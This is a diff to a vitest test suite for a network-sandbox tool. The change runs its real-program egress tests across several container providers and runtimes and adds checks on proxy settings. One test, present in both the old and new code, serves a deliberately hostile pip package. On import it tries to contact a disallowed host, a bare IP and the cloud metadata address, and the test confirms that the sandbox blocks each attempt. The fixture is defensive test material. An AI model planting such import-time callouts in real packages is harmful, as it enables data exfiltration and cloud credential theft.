@@ -1,4 +1,4 @@
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { existsSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
@@ -9,9 +9,6 @@ import { serveGit, serveNpm, servePip } from "./packages.ts";
 import { apiAddress, otherAddress } from "./row.ts";
 
 const reason = cannotReach();
-beforeEach(({ skip }) => {
-  if (reason !== undefined) skip(reason);
-});
 const packageAddress = "203.0.113.31";
 const image = "network-code:latest";
 
@@ -97,105 +94,139 @@ const trust = [
   "npm_config_cafile",
 ];
 
-describe("real programs", () => {
-  let ground: Ground;
-  let sandbox: NetworkSandbox;
-  let missing: string | undefined;
+const runsc = "/usr/bin/runsc";
+const levels = [
+  { provider: "oci", runtime: "runc", level: "transparent" },
+  { provider: "proot", runtime: "runc", level: "proxy" },
+  ...(existsSync(runsc) ? [{ provider: "oci", runtime: runsc, level: "proxy" }] : []),
+];
+const why = reason === undefined ? "" : ` (${reason})`;
 
-  beforeAll(async () => {
-    if (reason !== undefined) return;
-    const folder = mkdtempSync(join(tmpdir(), "stacyvm-code-"));
-    const found = await codeImageTar(folder);
-    if ("missing" in found) missing = found.missing;
-    ground = await startGround("tar" in found ? { images: { [image]: found.tar } } : {});
-    rmSync(folder, { recursive: true });
-    const www = join(ground.internet.directory, "www");
-    serveGit(www, "git.example.com", "project", "content of the repository\n");
-    servePip(www, "pypi.example.com", "greeter", "print('installed by pip')\n");
-    serveNpm(www, "npm.example.com", "greeter", "console.log('installed by npm')\n");
-    await ground.internet.say({
-      "api.example.com": { a: [apiAddress] },
-      "other.example.com": { a: [otherAddress] },
-      ...Object.fromEntries(["git", "pypi", "npm"].map((name) => [`${name}.example.com`, { a: [packageAddress] }])),
+describe.skipIf(reason !== undefined).each(levels)(
+  `real programs under $provider with $runtime, $level${why}`,
+  ({ provider, runtime, level }) => {
+    let ground: Ground;
+    let sandbox: NetworkSandbox;
+    let missing: string | undefined;
+
+    beforeAll(async () => {
+      const folder = mkdtempSync(join(tmpdir(), "stacyvm-code-"));
+      const found = await codeImageTar(folder);
+      if ("missing" in found) missing = found.missing;
+      ground = await startGround({
+        config: {
+          "providers.default": provider,
+          [`providers.${provider}.enabled`]: "true",
+          "providers.oci.runtime": runtime,
+        },
+        ...("tar" in found ? { images: { [image]: found.tar } } : {}),
+      });
+      rmSync(folder, { recursive: true });
+      const www = join(ground.internet.directory, "www");
+      serveGit(www, "git.example.com", "project", "content of the repository\n");
+      servePip(www, "pypi.example.com", "greeter", "print('installed by pip')\n");
+      serveNpm(www, "npm.example.com", "greeter", "console.log('installed by npm')\n");
+      await ground.internet.say({
+        "api.example.com": { a: [apiAddress] },
+        "other.example.com": { a: [otherAddress] },
+        ...Object.fromEntries(["git", "pypi", "npm"].map((name) => [`${name}.example.com`, { a: [packageAddress] }])),
+      });
+      if (missing !== undefined) return;
+      sandbox = await ground.spawn(
+        { mode: "allowlist", allow: ["git", "pypi", "npm", "api"].map((name) => `${name}.example.com:443`) },
+        { image, memory_mb: 1024, env: Object.fromEntries(trust.map((name) => [name, caInside])) },
+      );
+      await sandbox.write(caInside, readFileSync(ground.internet.caFile, "utf8"));
+      // wget looks nowhere else.
+      await sandbox.sh(`cat ${caInside} >> /etc/ssl/certs/ca-certificates.crt`);
+    }, codeImageTimeoutMs);
+    beforeEach(() => ground.internet.forget());
+    afterAll(async () => {
+      await ground?.[Symbol.asyncDispose]();
     });
-    if (missing !== undefined) return;
-    sandbox = await ground.spawn(
-      { mode: "allowlist", allow: ["git", "pypi", "npm", "api"].map((name) => `${name}.example.com:443`) },
-      { image, memory_mb: 1024, env: Object.fromEntries(trust.map((name) => [name, caInside])) },
-    );
-    await sandbox.write(caInside, readFileSync(ground.internet.caFile, "utf8"));
-    // wget looks nowhere else.
-    await sandbox.sh(`cat ${caInside} >> /etc/ssl/certs/ca-certificates.crt`);
-  }, codeImageTimeoutMs);
-  beforeEach(() => ground.internet.forget());
-  afterAll(async () => {
-    await ground?.[Symbol.asyncDispose]();
-  });
 
-  test.for(programs)("$name gets what is allowed by TLS, and not what isn't", async (one, { skip }) => {
-    if (missing !== undefined) skip(missing);
-    const there = await sandbox.sh(`command -v ${one.program}`);
-    if (there.status !== 0) skip(`the image has no ${one.program}`);
-    const { status, stdout, stderr } = await sandbox.sh(one.script);
-    expect({ status, stdout, stderr }).toMatchObject({ status: 0, stdout: expect.stringContaining("done") });
-    const { connections } = await ground.internet.records();
-    expect(connections.length).toBeGreaterThan(0);
-    expect(new Set(connections.map(({ sni }) => sni))).toEqual(new Set([one.sni]));
-    expect(connections.flatMap(({ requests }) => requests).length).toBeGreaterThan(0);
-    if (one.refused === undefined) return;
-    await ground.internet.forget();
-    expect((await sandbox.sh(one.refused)).status).not.toBe(0);
-    const { packets, queries } = await ground.internet.records();
-    expect(packets.filter(({ destination_port }) => destination_port !== 53)).toEqual([]);
-    expect(queries.filter(({ name }) => name.startsWith("other"))).toEqual([]);
-  });
+    test.for(programs)("$name gets what is allowed by TLS, and not what isn't", async (one, { skip }) => {
+      if (missing !== undefined) skip(missing);
+      const there = await sandbox.sh(`command -v ${one.program}`);
+      if (there.status !== 0) skip(`the image has no ${one.program}`);
+      const { status, stdout, stderr } = await sandbox.sh(one.script);
+      expect({ status, stdout, stderr }).toMatchObject({ status: 0, stdout: expect.stringContaining("done") });
+      const { connections } = await ground.internet.records();
+      expect(connections.length).toBeGreaterThan(0);
+      expect(new Set(connections.map(({ sni }) => sni))).toEqual(new Set([one.sni]));
+      expect(connections.flatMap(({ requests }) => requests).length).toBeGreaterThan(0);
+      if (one.refused === undefined) return;
+      await ground.internet.forget();
+      expect((await sandbox.sh(one.refused)).status).not.toBe(0);
+      const { packets, queries } = await ground.internet.records();
+      expect(packets.filter(({ destination_port }) => destination_port !== 53)).toEqual([]);
+      expect(queries.filter(({ name }) => name.startsWith("other"))).toEqual([]);
+    });
 
-  test("a static Go program gets what is allowed by TLS, and not what isn't", async () => {
-    await using plain = await ground.spawn({ mode: "allowlist", allow: ["api.example.com:443"] });
-    expect(await plain.probe.https("https://api.example.com/")).toMatchObject({ status: 200 });
-    expect(await plain.probe.https("https://other.example.com/")).toMatchObject({ connected: false });
-    expect((await ground.internet.records()).connections.map(({ sni }) => sni)).toEqual(["api.example.com"]);
-  });
+    test("a program that asks no proxy gets what is allowed where the level is transparent, and nothing elsewhere", async () => {
+      await using plain = await ground.spawn({ mode: "allowlist", allow: ["api.example.com:443"] });
+      const isCarried = level === "transparent";
+      const answer = await plain.probe.https("https://api.example.com/");
+      expect(answer).toMatchObject(isCarried ? { status: 200 } : { connected: false });
+      expect(await plain.probe.https("https://other.example.com/")).toMatchObject({ connected: false });
+      const { connections } = await ground.internet.records();
+      expect(connections.map(({ sni }) => sni)).toEqual(isCarried ? ["api.example.com"] : []);
+    });
 
-  test("an agent installs packages and calls one API, and what it installed calls nobody else", async ({ skip }) => {
-    if (missing !== undefined) skip(missing);
-    const www = join(ground.internet.directory, "www");
-    const hostile = [
-      "import urllib.request, os",
-      "for url in ('https://other.example.com/'+os.urandom(8).hex(), 'http://203.0.113.21/', 'http://169.254.169.254/'):",
-      "    try: urllib.request.urlopen(url, timeout=10); print('told', url)",
-      "    except Exception as error: print('kept', url)",
-      "",
-    ].join("\n");
-    servePip(www, "pypi.example.com", "telltale", hostile);
-    await using agent = await ground.spawn(
-      { mode: "allowlist", allow: ["pypi.example.com:443", "api.example.com:443"] },
-      { image, memory_mb: 1024, env: Object.fromEntries(trust.map((name) => [name, caInside])) },
-    );
-    await agent.write(caInside, readFileSync(ground.internet.caFile, "utf8"));
-    const installed = await agent.sh(
-      "python3 -m venv venv && venv/bin/pip install -q --disable-pip-version-check --index-url https://pypi.example.com/simple telltale",
-    );
-    expect(installed).toMatchObject({ status: 0 });
-    const called = await agent.sh(`venv/bin/${python("https://api.example.com/v1/answer")}`);
-    expect(called.stdout).toContain(`reached ${apiAddress}:443 as api.example.com`);
-    const imported = await agent.sh("venv/bin/python -c 'import telltale'");
-    expect(imported.stdout).not.toContain("told");
-    expect(imported.stdout.match(/kept/g)).toHaveLength(3);
-    const { connections, packets, queries } = await ground.internet.records();
-    expect(new Set(connections.map(({ at, sni }) => `${at} ${sni}`))).toEqual(
-      new Set([`${packageAddress}:443 pypi.example.com`, `${apiAddress}:443 api.example.com`]),
-    );
-    expect(new Set(queries.map(({ name }) => name))).toEqual(new Set(["pypi.example.com", "api.example.com"]));
-    expect(
-      packets.filter(
-        ({ destination, destination_port }) =>
-          destination_port !== 53 && ![packageAddress, apiAddress].includes(destination),
-      ),
-    ).toEqual([]);
-    const denied = (await agent.log()).filter(({ decision }) => decision === "denied");
-    expect(denied.map(({ host, address }) => host ?? address)).toEqual(
-      expect.arrayContaining(["other.example.com", otherAddress, "169.254.169.254"]),
-    );
-  });
-});
+    test("the sandbox tells its level; what programs need for it is below the caller's variables, and not told as theirs", async () => {
+      const env = { NO_PROXY: "internal.example", OWN: "1" };
+      await using own = await ground.spawn({ mode: "public" }, { env });
+      const told = async (path: string) => await (await fetch(`${own.url}${path}`)).json();
+      expect(await told("/network")).toMatchObject({ level });
+      expect(await told("?view=full")).toMatchObject({ env_names: ["NO_PROXY", "OWN"] });
+      const { stdout } = await own.sh("env | grep -i -E '^(https?_proxy|no_proxy|all_proxy|node_use)' | sort");
+      const proxy = "http://127.0.0.1:3128";
+      const set = [`HTTP_PROXY=${proxy}`, `HTTPS_PROXY=${proxy}`, "NODE_USE_ENV_PROXY=1", `http_proxy=${proxy}`];
+      const all = [...set, `https_proxy=${proxy}`];
+      const lines = ["NO_PROXY=internal.example", ...(level === "proxy" ? all : [])];
+      expect(stdout.trim().split("\n").toSorted()).toEqual(lines.toSorted());
+    });
+
+    test("an agent installs packages and calls one API, and what it installed calls nobody else", async ({ skip }) => {
+      if (missing !== undefined) skip(missing);
+      const www = join(ground.internet.directory, "www");
+      const hostile = [
+        "import urllib.request, os",
+        "for url in ('https://other.example.com/'+os.urandom(8).hex(), 'http://203.0.113.21/', 'http://169.254.169.254/'):",
+        "    try: urllib.request.urlopen(url, timeout=10); print('told', url)",
+        "    except Exception as error: print('kept', url)",
+        "",
+      ].join("\n");
+      servePip(www, "pypi.example.com", "telltale", hostile);
+      await using agent = await ground.spawn(
+        { mode: "allowlist", allow: ["pypi.example.com:443", "api.example.com:443"] },
+        { image, memory_mb: 1024, env: Object.fromEntries(trust.map((name) => [name, caInside])) },
+      );
+      await agent.write(caInside, readFileSync(ground.internet.caFile, "utf8"));
+      const installed = await agent.sh(
+        "python3 -m venv venv && venv/bin/pip install -q --disable-pip-version-check --index-url https://pypi.example.com/simple telltale",
+      );
+      expect(installed).toMatchObject({ status: 0 });
+      const called = await agent.sh(`venv/bin/${python("https://api.example.com/v1/answer")}`);
+      expect(called.stdout).toContain(`reached ${apiAddress}:443 as api.example.com`);
+      const imported = await agent.sh("venv/bin/python -c 'import telltale'");
+      expect(imported.stdout).not.toContain("told");
+      expect(imported.stdout.match(/kept/g)).toHaveLength(3);
+      const { connections, packets, queries } = await ground.internet.records();
+      expect(new Set(connections.map(({ at, sni }) => `${at} ${sni}`))).toEqual(
+        new Set([`${packageAddress}:443 pypi.example.com`, `${apiAddress}:443 api.example.com`]),
+      );
+      expect(new Set(queries.map(({ name }) => name))).toEqual(new Set(["pypi.example.com", "api.example.com"]));
+      expect(
+        packets.filter(
+          ({ destination, destination_port }) =>
+            destination_port !== 53 && ![packageAddress, apiAddress].includes(destination),
+        ),
+      ).toEqual([]);
+      const denied = (await agent.log()).filter(({ decision }) => decision === "denied");
+      expect(denied.map(({ host, address }) => host ?? address)).toEqual(
+        expect.arrayContaining(["other.example.com", otherAddress, "169.254.169.254"]),
+      );
+    });
+  },
+);
